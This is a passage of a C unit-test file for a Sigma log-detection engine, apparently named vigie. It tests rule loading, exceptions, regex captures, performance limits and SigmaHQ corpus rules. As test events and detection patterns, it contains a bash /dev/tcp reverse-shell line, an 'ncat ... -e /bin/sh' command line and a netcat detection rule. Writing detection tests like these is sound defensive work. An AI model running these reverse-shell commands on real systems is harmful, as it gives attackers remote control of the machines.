    cr_assert_eq(load(&l, yaml, NULL), VG_OK);
    cr_assert_eq(l.n, 2);
    cr_assert_str_eq(vg_sigma_meta(l.r[0])->title, "one");
    cr_assert_str_eq(vg_sigma_meta(l.r[1])->title, "three");
    cr_assert_eq(vg_sigma_meta(l.r[1])->line, 11);
    cr_assert_eq(l.nerr, 1);
    cr_assert_str_eq(l.err[0], "t.yml:9:16: condition references undefined selection 'nope'");
    unload(&l);
}

Test(sigma, x_vigie_tests)
{
    const char *yaml = "title: t\n"
                       "logsource: {product: linux, service: sshd}\n"
                       "detection:\n    sel: {f: x}\n    condition: sel\n"
                       "x_vigie:\n"
                       "    tests:\n"
                       "        - line: 'Dec 10 06:55:46 host sshd[1]: Failed password for root'\n"
                       "          match: true\n"
                       "          fields: {user: root, port: 22}\n"
                       "        - line: nothing\n"
                       "          format: json\n"
                       "          logsource: linux/auth\n"
                       "          match: false\n";
    loaded l;
    vg_sigma_rule *r = load1(&l, yaml);
    size_t n;
    const vg_sigma_test *t = vg_sigma_tests(r, &n);
    cr_assert_eq(n, 2);
    cr_assert_str_eq(t[0].line, "Dec 10 06:55:46 host sshd[1]: Failed password for root");
    cr_assert_null(t[0].format);
    cr_assert_null(t[0].logsource);
    cr_assert(t[0].match);
    cr_assert_eq(t[0].nfields, 2);
    cr_assert_str_eq(t[0].fields[0].key, "user");
    cr_assert_str_eq(t[0].fields[0].values.v[0], "root");
    cr_assert_str_eq(t[0].fields[1].values.v[0], "22");
    cr_assert_eq(t[0].line_no, 8);
    cr_assert_str_eq(t[1].format, "json");
    cr_assert_str_eq(t[1].logsource, "linux/auth");
    cr_assert_not(t[1].match);
    cr_assert_eq(t[1].line_no, 11);
    unload(&l);
}

Test(sigma, load_file_errors)
{
    loaded l;
    memset(&l, 0, sizeof l);
    cr_assert_eq(vg_sigma_load_file("/nonexistent/x.yml", NULL, on_rule, on_diag, &l), VG_EIO);
    cr_assert_eq(l.nerr, 1);
    cr_assert(strstr(l.err[0], "/nonexistent/x.yml:0:0: cannot open"), "%s", l.err[0]);
}

/* ---- exceptions, explain, captures, limits ---- */

static const char *ssh_rule = "title: ssh\nlogsource: {product: linux}\ndetection:\n"
                              "    sel:\n        msg|contains: 'Failed password'\n"
                              "    filter:\n        user: nagios\n"
                              "    condition: sel and not filter\n";

Test(sigma, exceptions)
{
    loaded l;
    vg_sigma_rule *r = load1(&l, ssh_rule);
    char *vals1[] = {"root", "admin"};
    vg_kv items[] = {{"user", {vals1, 2}}};
    vg_exception ex = {items, 1};
    vg_errbuf eb = {0};
    cr_assert_eq(vg_sigma_add_exception(r, &ex, &eb), VG_OK, "%s", eb.msg);
    char *vals2[] = {"10.0.0.0/8"};
    char *vals3[] = {"bob"};
    vg_kv items2[] = {{"ip|cidr", {vals2, 1}}, {"user", {vals3, 1}}};
    vg_exception ex2 = {items2, 2};
    cr_assert_eq(vg_sigma_add_exception(r, &ex2, &eb), VG_OK, "%s", eb.msg);

    static const struct {
        const char *user, *ip;
        bool expect;
    } cases[] = {
        {"alice", "1.2.3.4", true},   {"ROOT", "1.2.3.4", false}, {"admin", "1.2.3.4", false},
        {"nagios", "1.2.3.4", false}, {"bob", "10.1.1.1", false}, {"bob", "1.2.3.4", true},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char u[64], ip[64];
        snprintf(u, sizeof u, "user=%s", cases[i].user);
        snprintf(ip, sizeof ip, "ip=%s", cases[i].ip);
        vg_event ev;
        build(&ev, "x", (const char *const[]){"msg=Failed password for x", u, ip, NULL});
        cr_expect_eq(eval(r, &ev, NULL), cases[i].expect, "case %zu", i);
    }

    char *bad[] = {"x"};
    vg_kv items3[] = {{"user|nope", {bad, 1}}};
    vg_exception ex3 = {items3, 1};
    cr_assert_eq(vg_sigma_add_exception(r, &ex3, &eb), VG_EUNSUPPORTED);
    cr_assert_str_eq(eb.msg, "exception key 'user|nope': unknown modifier 'nope'");
    vg_exception empty = {NULL, 0};
    cr_assert_eq(vg_sigma_add_exception(r, &empty, &eb), VG_EINVAL);
    /* no values = null: the field is absent */
    vg_kv items4[] = {{"host", {NULL, 0}}};
    vg_exception ex4 = {items4, 1};
    cr_assert_eq(vg_sigma_add_exception(r, &ex4, &eb), VG_OK, "%s", eb.msg);
    vg_event ev;
    build(&ev, "x", (const char *const[]){"msg=Failed password", "user=alice", NULL});
    cr_assert_not(eval(r, &ev, NULL));
    build(&ev, "x", (const char *const[]){"msg=Failed password", "user=alice", "host=h", NULL});
    cr_assert(eval(r, &ev, NULL));
    unload(&l);
}

typedef struct explained {
    char text[512];
} explained;

static void on_explain(void *ud, const char *sel, bool m)
{
    explained *e = ud;
    size_t n = strlen(e->text);
    snprintf(e->text + n, sizeof e->text - n, "%s=%d ", sel, m);
}

Test(sigma, explain)
{
    loaded l;
    vg_sigma_rule *r = load1(&l, ssh_rule);
    vg_sigma_scratch *s = vg_sigma_scratch_create();
    vg_event ev;
    explained e = {""};
    build(&ev, "x", (const char *const[]){"msg=Failed password", "user=nagios", NULL});
    vg_sigma_scratch_next_event(s);
    cr_assert_not(vg_sigma_explain(r, &ev, s, NULL, on_explain, &e));
    cr_assert_str_eq(e.text, "sel=1 filter=1 condition=0 ");

    char *vals[] = {"bob"};
    vg_kv items[] = {{"user", {vals, 1}}};
    vg_exception ex = {items, 1};
    cr_assert_eq(vg_sigma_add_exception(r, &ex, NULL), VG_OK);
    e.text[0] = '\0';
    build(&ev, "x", (const char *const[]){"msg=Failed password", "user=bob", NULL});
    vg_sigma_scratch_next_event(s);
    cr_assert_not(vg_sigma_explain(r, &ev, s, NULL, on_explain, &e));
    cr_assert_str_eq(e.text, "sel=1 filter=0 exception 1=1 condition=0 ");
    e.text[0] = '\0';
    build(&ev, "x", (const char *const[]){"msg=Failed password", "user=eve", NULL});
    vg_sigma_scratch_next_event(s);
    cr_assert(vg_sigma_explain(r, &ev, s, NULL, on_explain, &e));
    cr_assert_str_eq(e.text, "sel=1 filter=0 exception 1=0 condition=1 ");
    vg_sigma_scratch_destroy(s);
    unload(&l);
}

Test(sigma, captures)
{
    loaded l;
    char *yaml = rule_with(
        "    sel:\n        msg|re: 'Failed password for (?<user>\\S+) from (?<ip>[0-9.]+)'\n"
        "    other:\n        msg|re: '(?<never>zzz)'\n"
        "    gate:\n        g: open\n"
        "    condition: sel and gate or other\n");
    vg_sigma_rule *r = load1(&l, yaml);
    vg_arena arena;
    vg_arena_init(&arena, 1 << 20);
    char line[] = "Failed password for root from 10.0.0.9 port 22";
    vg_event ev;
    build(&ev, line, NULL);
    vg_event_set(&ev, VG_STR("msg"), (vg_str){line, strlen(line)});
    vg_event_set(&ev, VG_STR("g"), VG_STR("closed"));
    cr_assert_not(eval(r, &ev, &arena));
    cr_assert_null(vg_event_get(&ev, VG_STR("user")), "no captures without a match");
    vg_event_set(&ev, VG_STR("g"), VG_STR("open"));
    cr_assert(eval(r, &ev, &arena));
    const vg_str *u = vg_event_get(&ev, VG_STR("user"));
    const vg_str *ip = vg_event_get(&ev, VG_STR("ip"));
    cr_assert(u && ip);
    cr_assert(vg_str_eqc(*u, "root"));
    cr_assert(vg_str_eqc(*ip, "10.0.0.9"));
    cr_assert(u->p < line || u->p >= line + sizeof line, "copied into the arena");
    cr_assert_null(vg_event_get(&ev, VG_STR("never")));
    unload(&l);
    free(yaml);

    /* a negated selection that matched gives no fields; a positive one still does */
    yaml = rule_with("    neg:\n        msg|re: '(?<bad>root)'\n"
                     "    sel:\n        msg|re: 'from (?<src>[0-9.]+)'\n"
                     "    condition: not neg or (sel and neg)\n");
    r = load1(&l, yaml);
    build(&ev, line, NULL);
    vg_event_set(&ev, VG_STR("msg"), (vg_str){line, strlen(line)});
    cr_assert(eval(r, &ev, &arena));
    cr_assert(vg_event_get(&ev, VG_STR("src")));
    cr_assert(vg_event_get(&ev, VG_STR("bad")), "neg needed positively: evaluated again");
    unload(&l);
    free(yaml);
    yaml = rule_with("    neg:\n        msg|re: '(?<bad>root)'\n"
                     "    sel:\n        msg|re: 'from (?<src>[0-9.]+)'\n"
                     "    condition: not neg or sel\n");
    r = load1(&l, yaml);
    build(&ev, line, NULL);
    vg_event_set(&ev, VG_STR("msg"), (vg_str){line, strlen(line)});
    cr_assert(eval(r, &ev, &arena));
    cr_assert(vg_event_get(&ev, VG_STR("src")));
    cr_assert_null(vg_event_get(&ev, VG_STR("bad")));
    vg_arena_destroy(&arena);
    unload(&l);
    free(yaml);
}

Test(sigma, regex_limit_counts)
{
    loaded l;
    vg_sigma_opts o = {.regex_match_limit = 1000, .regex_depth_limit = 100};
    char *yaml = rule_with("    sel:\n        f|re: '^(a|aa)+$'\n    condition: sel\n");
    load(&l, yaml, &o);
    cr_assert_eq(l.n, 1);
    vg_counter hits = {0};
    vg_sigma_meta(l.r[0])->limit_hits = &hits;
    char v[80];
    memset(v, 'a', 60);
    v[60] = 'b';
    v[61] = '\0';
    vg_event ev;
    build(&ev, NULL, NULL);
    vg_event_set(&ev, VG_STR("f"), (vg_str){v, strlen(v)});
    cr_assert_not(eval(l.r[0], &ev, NULL));
    cr_assert_eq(vg_counter_get(&hits), 1);
    vg_event_set(&ev, VG_STR("f"), VG_STR("aaaa"));
    cr_assert(eval(l.r[0], &ev, NULL));
    cr_assert_eq(vg_counter_get(&hits), 1);
    unload(&l);
    free(yaml);
}

Test(sigma, glob_worst_case_is_fast)
{
    loaded l;
    char *yaml = rule_with("    sel:\n        f: '*a*a*a*a*a*a*a*a*b'\n    condition: sel\n");
    vg_sigma_rule *r = load1(&l, yaml);
    size_t n = 200000;
    char *v = malloc(n);
    memset(v, 'a', n);
    vg_event ev;
    build(&ev, NULL, NULL);
    vg_event_set(&ev, VG_STR("f"), (vg_str){v, n});
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    cr_assert_not(eval(r, &ev, NULL));
    clock_gettime(CLOCK_MONOTONIC, &t1);
    double ms = (t1.tv_sec - t0.tv_sec) * 1e3 + (t1.tv_nsec - t0.tv_nsec) / 1e6;
    cr_assert_lt(ms, 1000.0, "glob took %.1f ms", ms);
    free(v);
    unload(&l);
    free(yaml);
}

Test(sigma, evaluation_rate)
{
    loaded l;
    char *yaml = rule_with("    sel:\n        Image|endswith: ['/nc', '/ncat', '/netcat']\n"
                           "        CommandLine|contains|all: [' -e ', '/bin/sh']\n"
                           "    filter:\n        User: root\n"
                           "    condition: sel and not filter\n");
    vg_sigma_rule *r = load1(&l, yaml);
    vg_sigma_scratch *s = vg_sigma_scratch_create();
    vg_event ev;
    build(&ev, "x",
          (const char *const[]){"Image=/usr/bin/ncat", "User=www-data",
                                "CommandLine=ncat 10.0.0.1 4444 -e /bin/sh", NULL});
    struct timespec t0, t1;
    size_t n = 1000000, hits = 0;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (size_t i = 0; i < n; i++) {
        vg_sigma_scratch_next_event(s);
        hits += vg_sigma_match(r, &ev, s, NULL);
    }
    clock_gettime(CLOCK_MONOTONIC, &t1);
    double sec = (double)(t1.tv_sec - t0.tv_sec) + (t1.tv_nsec - t0.tv_nsec) / 1e9;
    cr_assert_eq(hits, n);
    cr_log_info("sigma: %.1f M evaluations/s", (double)n / sec / 1e6);
    fprintf(stderr, "sigma: %.1f M evaluations/s (matching event, 3 selections items)\n",
            (double)n / sec / 1e6);
    vg_sigma_scratch_destroy(s);
    unload(&l);
    free(yaml);
}

/* ---- logsource ---- */

Test(sigma, logsource_accepts)
{
    static const struct {
        vg_logsource rule, input;
        const char *service2;
        bool expect;
    } cases[] = {
        {{NULL, NULL, NULL}, {NULL, NULL, NULL}, NULL, true},
        {{"linux", NULL, NULL}, {"linux", NULL, "auth"}, NULL, true},
        {{"linux", NULL, NULL}, {"windows", NULL, NULL}, NULL, false},
        {{"linux", NULL, "sshd"}, {"linux", NULL, "auth"}, "sshd", true},
        {{"linux", NULL, "sshd"}, {"linux", NULL, "auth"}, "sudo", false},
        {{"linux", NULL, "auth"}, {"linux", NULL, "auth"}, "sshd", true},
        {{NULL, "webserver", NULL}, {"linux", "webserver", NULL}, NULL, true},
        {{NULL, "webserver", NULL}, {"linux", NULL, NULL}, NULL, false},
        {{"Linux", NULL, NULL}, {"linux", NULL, NULL}, NULL, true},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        vg_event ev;
        vg_event_clear(&ev);
        ev.logsource = &cases[i].input;
        ev.service2 = cases[i].service2;
        cr_expect_eq(vg_logsource_accepts(&cases[i].rule, &ev), cases[i].expect, "case %zu", i);
    }
    vg_event ev;
    vg_event_clear(&ev);
    vg_logsource any = {NULL, NULL, NULL}, lin = {"linux", NULL, NULL};
    cr_assert(vg_logsource_accepts(&any, &ev));
    cr_assert_not(vg_logsource_accepts(&lin, &ev));
}


/* ---- the SigmaHQ corpus ---- */

typedef struct corpus {
    size_t loaded, files, rejected_files;
    char last_err[1024];
    int nerr;
} corpus;

static void corpus_rule(void *ud, vg_sigma_rule *r)
{
    corpus *c = ud;
    c->loaded++;
    vg_sigma_rule_destroy(r);
}

static void corpus_diag(void *ud, const vg_diag *d)
{
    corpus *c = ud;
    if (d->is_warning)
        return;
    if (!c->nerr++)
        snprintf(c->last_err, sizeof c->last_err, "%s:%d:%d: %s", d->file, d->line, d->col, d->msg);
}

static void walk(const char *dir, corpus *c)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        char p[4096];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat st;
        if (stat(p, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            walk(p, c);
        } else {
            size_t n = strlen(p);
            if (n < 4 || strcmp(p + n - 4, ".yml") != 0)
                continue;
            c->files++;
            c->nerr = 0;
            vg_sigma_load_file(p, NULL, corpus_rule, corpus_diag, c);
            if (c->nerr) {
                c->rejected_files++;
                fprintf(stderr, "  rejected %s\n", c->last_err);
            }
        }
    }
    closedir(d);
}

Test(sigma, corpus_linux_web)
{
    char base[4096];
    if (!vg_test_corpus_path(base, sizeof base, "sigma/rules"))
        cr_skip("SigmaHQ corpus absent (sigma/rules)");
    char linux_dir[4200], web_dir[4200];
    snprintf(linux_dir, sizeof linux_dir, "%s/linux", base);
    snprintf(web_dir, sizeof web_dir, "%s/web", base);
    corpus c = {0};
    walk(linux_dir, &c);
    walk(web_dir, &c);
    fprintf(stderr, "sigma corpus: %zu files, %zu rules loaded, %zu files rejected\n", c.files,
            c.loaded, c.rejected_files);
    cr_assert_gt(c.files, 0);
    cr_assert_geq((c.files - c.rejected_files) * 100, c.files * 98, "only %zu of %zu loaded",
                  c.files - c.rejected_files, c.files);
    /* Must not regress: every rule of this snapshot (210 linux + 45 web) loads. */
    if (c.files == 255)
        cr_assert_eq(c.loaded, 255, "the loaded count regressed: %zu of 255", c.loaded);
}

/* Some SigmaHQ rules, as written upstream, against events built by hand. */
static const struct {
    const char *file; /* under rules/ */
    const char *raw;
    const char *fields[6];
    bool expect;
} corpus_cases[] = {
    {"linux/builtin/lnx_shell_susp_rev_shells.yml",
     "Dec 10 06:55:46 host bash[1]: BASH -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     {NULL},
     true},
    {"linux/builtin/lnx_shell_susp_rev_shells.yml",
     "Dec 10 06:55:46 host bash[1]: ls -la",
     {NULL},
     false},
    {"linux/process_creation/proc_creation_lnx_susp_java_children.yml",
     "x",
     {"ParentImage=/usr/lib/jvm/bin/java", "CommandLine=/bin/sh -c id", NULL},
     true},
    {"linux/process_creation/proc_creation_lnx_susp_java_children.yml",
     "x",
     {"ParentImage=/usr/bin/javac", "CommandLine=/bin/sh -c id", NULL},
     false},
    {"linux/process_creation/proc_creation_lnx_susp_inod_listing.yml",
     "x",
     {"Image=/bin/ls", "CommandLine=ls -lid /", NULL},
     true},
    {"linux/process_creation/proc_creation_lnx_susp_inod_listing.yml",
     "x",
     {"Image=/bin/ls", "CommandLine=ls -l /", NULL},
     false},
    {"web/proxy_generic/proxy_webdav_external_execution.yml",
     "x",
     {"c-useragent=Microsoft-WebDAV-MiniRedir/10.0", "cs-method=GET", "c-uri=/x/payload.EXE",
      "dst_ip=203.0.113.9", NULL},
     true},
    {"web/proxy_generic/proxy_webdav_external_execution.yml",
     "x",
     {"c-useragent=Microsoft-WebDAV-MiniRedir/10.0", "cs-method=GET", "c-uri=/x/payload.exe",
      "dst_ip=172.20.1.1", NULL},
     false},
};

Test(sigma, corpus_rules_match)
{
    for (size_t i = 0; i < sizeof corpus_cases / sizeof corpus_cases[0]; i++) {
        char p[4096], sub[512];
        snprintf(sub, sizeof sub, "sigma/rules/%s", corpus_cases[i].file);
        if (!vg_test_corpus_path(p, sizeof p, sub))
            cr_skip("SigmaHQ corpus absent (%s)", sub);
        loaded l;
        memset(&l, 0, sizeof l);
        cr_assert_eq(vg_sigma_load_file(p, NULL, on_rule, on_diag, &l), VG_OK);
        cr_assert_eq(l.n, 1, "%s: %s", p, l.nerr ? l.err[0] : "");
        vg_event ev;
        build(&ev, corpus_cases[i].raw, corpus_cases[i].fields);
        cr_expect_eq(eval(l.r[0], &ev, NULL), corpus_cases[i].expect, "case %zu (%s)", i,
                     corpus_cases[i].file);
        unload(&l);
    }
}
